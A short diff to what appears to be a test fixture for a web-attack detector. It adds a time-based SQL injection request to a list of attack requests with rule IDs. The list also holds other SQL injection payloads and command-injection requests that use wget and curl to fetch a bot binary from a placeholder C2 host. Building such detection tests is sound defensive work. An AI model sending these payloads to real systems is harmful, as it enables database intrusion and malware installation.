@@ -131,6 +131,7 @@ WEB_ATTACKS: list[tuple[tuple[int, ...], tuple[int, ...], bytes, bytes]] = [
                           headers=(("Content-Type", "application/json"),)), NOT_FOUND),
     ((9001033,), (), _req("GET", "/item.php?id=1%20AND%20SLEEP(5)"), NOT_FOUND),
     ((9001034,), (), _req("GET", "/item.php?id=(select+table_name+from+information_schema.tables+limit+1)"), NOT_FOUND),
+    ((9001035,), (), _req("GET", "/report.asp?id=1%3BWAITFOR%20DELAY%20%270:0:5%27--"), NOT_FOUND),
     ((9001040,), (), _req("GET", f"/cgi-bin/ping.cgi?host=127.0.0.1;wget+http://{C2}/bot.mips+-O+/tmp/b"), OK),
     ((9001041,), (), _req("POST", "/api/diag", body=f"ip=192.0.2.1%3Bcurl%20-s%20http%3A%2F%2F{C2}%2Fx".encode(),
                           headers=(("Content-Type", "application/x-www-form-urlencoded"),)), OK),
